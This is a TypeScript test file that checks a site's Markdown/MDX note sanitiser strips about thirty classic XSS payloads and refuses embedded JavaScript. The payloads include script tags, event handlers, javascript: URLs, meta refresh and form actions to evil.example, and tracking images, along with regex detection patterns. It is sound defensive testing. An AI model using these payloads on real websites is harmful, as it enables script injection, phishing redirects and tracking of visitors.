/**
 * Notes cannot run code. Each classic XSS payload, written into a note body, goes through the
 * same parser (remark-mdx) and the same remark → rehype step as MDX (mdx nodes passed through,
 * as @mdx-js/mdx does); the HTML that comes out holds nothing that can run, and each removal is
 * reported with its line. The build test runs a payload note through the real Astro build.
 */
import type { Root } from 'mdast';
import rehypeStringify from 'rehype-stringify';
import remarkGfm from 'remark-gfm';
import remarkMdx from 'remark-mdx';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { noteSafety, remarkNoteSafety } from '../../../src/markdown/note-safety.ts';

const MDX_NODES = [
  'mdxFlowExpression',
  'mdxJsxFlowElement',
  'mdxJsxTextElement',
  'mdxTextExpression',
  'mdxjsEsm',
];

function render(body: string) {
  const processor = unified().use(remarkParse).use(remarkMdx).use(remarkGfm);
  const tree = processor.parse(body) as Root;
  const report = noteSafety(tree);
  const hast = unified()
    .use(remarkRehype, { passThrough: MDX_NODES } as never)
    .runSync(tree as never);
  const leftover = JSON.stringify(hast).match(/"type":"mdx\w+"/g) ?? [];
  const html = unified()
    .use(rehypeStringify)
    .stringify(hast as never);
  return { html, leftover, ...report };
}

/** Nothing in the output can run script, send the reader away or load another site. */
function expectInert(html: string) {
  expect(html).not.toMatch(
    /<(script|style|iframe|object|embed|meta|base|form|svg|math|link|frame|frameset|input|button|textarea|select)\b/i,
  );
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(
    /(href|src|action|formaction|data|srcdoc|xlink:href)\s*=\s*"\s*(javascript|vbscript|data:text)/i,
  );
  expect(html).not.toMatch(/\s(srcdoc|formaction|style|action)=/i);
  // No image, frame or script from another site (no third-party requests).
  expect(html).not.toMatch(/\ssrc="\s*(?:[a-z]+:)?\/\//i);
}

const PAYLOADS: [name: string, body: string, removed: RegExp][] = [
  ['script element', '<script>alert(1)</script>', /<script>/],
  ['img onerror', '<img src="/x.png" onerror="alert(1)" />', /"onerror".*event handlers/],
  ['svg onload', '<svg onload="alert(1)"><circle r="1" /></svg>', /<svg>/],
  ['javascript: href', '<a href="javascript:alert(1)">x</a>', /"href".*javascript: URLs/],
  ['javascript: href, entity-encoded', '<a href="jav&#x61;script:alert(1)">x</a>', /"href"/],
  ['javascript: href, tab inside', '<a href="java\tscript:alert(1)">x</a>', /"href"/],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe>/],
  ['meta refresh', '<meta httpEquiv="refresh" content="1;url=https://evil.example" />', /<meta>/],
  [
    'meta refresh, html spelling',
    '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
    /<meta>/,
  ],
  ['base href', '<base href="https://evil.example/" />', /<base>/],
  [
    'form action',
    '<form action="https://evil.example"><input name="p" /><button>Go</button></form>',
    /<form>/,
  ],
  ['style expression', '<div style="width: expression(alert(1))">x</div>', /"style"/],
  ['style element', '<style>{"body{display:none}"}</style>', /<style>|JavaScript/],
  ['object data', '<object data="javascript:alert(1)"></object>', /<object>/],
  ['embed src', '<embed src="https://evil.example/x.swf" />', /<embed>/],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css" />', /<link>/],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary>t</details>', /"ontoggle"/],
  ['body onload', '<body onload="alert(1)">x</body>', /<body>/],
  ['video onerror', '<video src="x" onerror="alert(1)"></video>', /<video>/],
  ['math xlink', '<math><mtext xlink:href="javascript:alert(1)">x</mtext></math>', /<math>/],
  ['markdown javascript: link', '[click](javascript:alert(1))', /link to a javascript: URL/],
  [
    'markdown javascript: definition',
    '[click][x]\n\n[x]: javascript:alert(1)',
    /definition to a javascript: URL/,
  ],
  ['markdown data:text/html image', '![x](data:text/html;base64,PHNjcmlwdD4=)', /removed image/],
  ['remote tracking image', '<img src="https://evil.example/pixel.png" alt="" />', /"src"/],
  [
    'protocol-relative image',
    '<img src="//evil.example/pixel.png" alt="" />',
    /"src".*images must be files of the site/,
  ],
  ['protocol-relative Markdown image', '![x](//evil.example/pixel.png)', /removed image/],
  ['a with data: href', '<a href="data:text/html,<script>alert(1)</script>">x</a>', /"href"/],
  ['input autofocus onfocus', '<input autofocus onfocus="alert(1)" />', /<input>/],
  ['button formaction', '<button formAction="javascript:alert(1)">x</button>', /<button>/],
  [
    'textarea breakout',
    '<textarea>{"</textarea><script>alert(1)</script>"}</textarea>',
    /<textarea>|JavaScript/,
  ],
];

describe('raw HTML in a note is sanitised', () => {
  it.each(PAYLOADS)('%s', (_name, payload, removed) => {
    const { html, leftover, removals, errors } = render(`## Payload\n\nBefore.\n\n${payload}\n\nAfter.\n`);
    expect(leftover).toEqual([]);
    expectInert(html);
    expect(html).toContain('<p>Before.</p>');
    expect(html).toContain('<p>After.</p>');
    const said = [...removals, ...errors].map((r) => `${r.line}: ${r.message}`).join('\n');
    expect(said).toMatch(removed);
    expect(
      [...removals, ...errors].every((r) => r.line >= 5),
      said,
    ).toBe(true);
  });

  it('keeps the safe subset: details/summary, kbd, sub/sup, mark, br, local img, tables', () => {
    const { html, removals, errors } = render(
      [
        '<details open><summary>More</summary>Hidden text</details>',
        '',
        'Press <kbd>Ctrl</kbd> and H<sub>2</sub>O, x<sup>2</sup>, <mark>key</mark>, a<br />b.',
        '',
        '<img src="/images/a.png" alt="A" width="100" />',
        '',
        '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colSpan="2">b</td></tr></tbody></table>',
        '',
        '![inline](data:image/png;base64,iVBORw0KGgo=)',
      ].join('\n'),
    );
    expect(removals).toEqual([]);
    expect(errors).toEqual([]);
    expect(html).toContain('<details open><summary>More</summary>Hidden text</details>');
    expect(html).toContain('<kbd>Ctrl</kbd>');
    expect(html).toContain('H<sub>2</sub>O, x<sup>2</sup>, <mark>key</mark>, a<br>b.');
    expect(html).toContain('<img src="/images/a.png" alt="A" width="100">');
    expect(html).toContain('<td colspan="2">b</td>');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('a link whose target is removed becomes its text, not a dead link', () => {
    const { html } = render('See <a href="javascript:alert(1)" title="t">the docs</a> now.');
    expect(html).toBe('<p>See the docs now.</p>');
  });

  it('keeps ordinary links (web, mail, site, fragment)', () => {
    const { html, removals } = render(
      '[a](https://example.com) [b](mailto:x@example.com) [c](/notes/x/) [d](#top)',
    );
    expect(removals).toEqual([]);
    expect(html).toContain('href="https://example.com"');
    expect(html).toContain('href="mailto:x@example.com"');
    expect(html).toContain('href="/notes/x/"');
    expect(html).toContain('href="#top"');
  });

  it('author markup cannot pose as a diagram; the importer’s own marks keep their class', () => {
    const { html, removals } = render(
      '<figure className="diagram"><div className="diagram-canvas">x</div></figure><aside className="missing-asset" role="note">m</aside>',
    );
    expect(html).not.toMatch(/class="diagram/);
    expect(html).toContain('<aside class="missing-asset" role="note">m</aside>');
    expect(removals.map((r) => r.message)).toEqual([
      'removed attribute "class" of <figure> (not an allowed attribute)',
      'removed attribute "class" of <div> (not an allowed attribute)',
    ]);
  });
});

describe('a note cannot run code', () => {
  it.each([
    ['import', 'import fs from "node:fs"', /`import` is code/],
    ['export', 'export const host = process.env.HOSTNAME', /`export` is code/],
    ['flow expression', '{process.exit(1)}', /is a JavaScript expression.*escape it as `\\\{`/],
    ['text expression', 'p99 {1 + 1} ms', /`\{1 \+ 1\}` is a JavaScript expression/],
    ['component', '<Foo />', /<Foo> is not HTML a note may use/],
    ['member component', '<x.y />', /<x.y> is not HTML/],
    [
      'expression attribute',
      '<img src="/a.png" alt={globalThis.name} />',
      /a `\{…\}` value in <img> is JavaScript/,
    ],
    ['spread attribute', '<img {...props} />', /a `\{…\}` value in <img> is JavaScript/],
  ])('%s is refused with its line', (_name, code, message) => {
    const { errors, html } = render(`## Code\n\n${code}\n`);
    expect(errors.map((e) => e.message).join('\n')).toMatch(message);
    expect(errors[0]?.line).toBe(3);
    expect(html).not.toMatch(/process|globalThis|node:fs/);
  });

  it('MDX comments are allowed and not published', () => {
    const { errors, html } = render('Text {/* private */} more.');
    expect(errors).toEqual([]);
    expect(html).toBe('<p>Text  more.</p>');
  });

  it('the remark plugin stops the build naming file and line', () => {
    const tree = unified().use(remarkParse).use(remarkMdx).parse('a\n\nimport x from "y"\n') as Root;
    expect(() => remarkNoteSafety()(tree, { path: 'content/notes/n.mdx' } as never)).toThrow(
      /^content\/notes\/n\.mdx:3: `import` is code/,
    );
    const ok = unified().use(remarkParse).use(remarkMdx).parse('<kbd>k</kbd>') as Root;
    expect(() => remarkNoteSafety()(ok, { path: 'n.mdx' } as never)).not.toThrow();
  });
});

describe('.md notes: raw HTML nodes', () => {
  const md = (body: string) => {
    const tree = unified().use(remarkParse).use(remarkGfm).parse(body) as Root;
    const report = noteSafety(tree);
    const hast = unified()
      .use(remarkRehype, { allowDangerousHtml: true })
      .runSync(tree as never);
    return {
      html: unified()
        .use(rehypeStringify, { allowDangerousHtml: true })
        .stringify(hast as never),
      ...report,
    };
  };
  it('removes unsafe HTML blocks and attributes, keeps split inline tags', () => {
    const { html, removals } = md(
      'Press <kbd>Ctrl</kbd>.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<img src="/a.png" onerror="alert(1)">\n\n<script>alert(1)</script>\n',
    );
    expect(html).toContain('Press <kbd>Ctrl</kbd>.');
    expectInert(html);
    expect(html).toContain('<img src="/a.png">');
    expect(removals.map((r) => `${r.line}: ${r.message}`)).toEqual([
      '3: removed <meta> (removed with its content)',
      '5: removed attribute "onError" of <img> (event handlers cannot run in a note)',
      '7: removed <script> (removed with its content)',
    ]);
  });
});
